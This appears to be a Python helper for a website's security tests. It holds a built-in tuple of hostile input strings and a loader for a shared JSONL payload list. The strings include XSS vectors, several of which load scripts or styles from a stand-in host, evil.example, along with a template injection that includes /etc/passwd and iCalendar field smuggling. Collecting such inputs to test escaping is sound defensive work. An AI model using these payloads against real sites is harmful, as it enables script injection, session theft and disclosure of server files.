"""Hostile texts: a list of our own that is always there, and a public one where it lies beside the checkout."""

from __future__ import annotations

import json

from built_site import ROOT

PUBLIC = ROOT.parent / "shared" / "data" / "xss" / "payloads.jsonl"

OWN = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><svg/onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "[x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://a.example "t" onclick=alert(1))',
    "<javascript:alert(1)>",
    "[r]: javascript:alert(1)",
    "{: onclick=alert(1) }",
    "## x {: onclick=alert(1) style=position:fixed }",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "%(x)s %s {0.__class__} %n",
    "\r\nATTENDEE:mailto:x@evil.example",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y",
    "x;ATTACH=https://evil.example,\\nDTSTART:20200101",
    "a\u2028b\u2029c\u0085d\u000be",
    "\u202etxt.exe\u202c\u2066x\u2069",
    "\u0000\u0001\u001b[31m\u007f\ufeff\ufffe",
    "x" * 190,
    "<" * 150,
    "a&b<c>d\"e'f]]>--!>",
)


def public() -> tuple[str, ...]:
    """Return the public payloads, none where the list is not there."""
    if not PUBLIC.is_file():
        return ()
    return tuple(json.loads(line)["payload"] for line in PUBLIC.read_text(encoding="utf-8").split("\n") if line)
